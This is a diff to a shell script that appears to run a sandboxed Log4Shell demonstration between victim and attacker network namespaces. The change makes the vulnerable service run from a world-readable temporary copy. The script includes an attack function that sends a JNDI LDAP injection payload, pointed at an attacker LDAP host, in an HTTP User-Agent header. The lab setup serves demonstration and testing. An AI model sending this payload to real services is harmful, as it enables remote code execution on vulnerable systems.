@@ -18,11 +18,14 @@ if [ -z "${EGRET:-}" ]; then
 fi
 HERE=examples/log4shell
 V=l4s-victim-$$ A=l4s-attacker-$$ TMP=$(mktemp -d)
+# What nobody runs must not be read from the checkout, which may sit where
+# only root can enter (/root/egret): a world-readable copy.
+PUB=$(mktemp -d /tmp/egret-log4shell.XXXXXX); chmod 755 "$PUB"
 cleanup() {
   for ns in "$V" "$A"; do ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null || true; done
   sleep 0.2
   ip netns del "$V" 2>/dev/null || true; ip netns del "$A" 2>/dev/null || true
-  rm -rf "$TMP"
+  rm -rf "$TMP" "$PUB"
 }
 trap cleanup EXIT
 ip netns add "$V"; ip netns add "$A"
@@ -37,7 +40,8 @@ touch "$TMP/ldap.log"; chmod 666 "$TMP/ldap.log"
 # Background programs run in subshells, so they are not this shell's jobs
 # (cleanup kills everything in the namespaces).
 (in_a /usr/bin/python3 "$HERE/attacker_ldap.py" 10.66.0.2 1389 "$TMP/ldap.log" > "$TMP/attacker.out" &) 2>/dev/null
-(in_v setpriv --reuid=nobody --regid=nogroup --clear-groups /usr/bin/python3 "$HERE/vulnerable_service.py" 10.66.0.1 8080 > "$TMP/service.out" &) 2>/dev/null
+install -m 644 "$HERE/vulnerable_service.py" "$PUB/"
+(in_v setpriv --reuid=nobody --regid=nogroup --clear-groups /usr/bin/python3 "$PUB/vulnerable_service.py" 10.66.0.1 8080 > "$TMP/service.out" &) 2>/dev/null
 wait_line "$TMP/attacker.out" listening; wait_line "$TMP/service.out" listening
 attack() { in_a /usr/bin/python3 -c 'import urllib.request,sys; r=urllib.request.Request("http://10.66.0.1:8080/", headers={"User-Agent": sys.argv[1]}); print("service answered:", urllib.request.urlopen(r, timeout=10).read().decode().strip())' "\${jndi:ldap://10.66.0.2:1389/Exploit}"; }
 
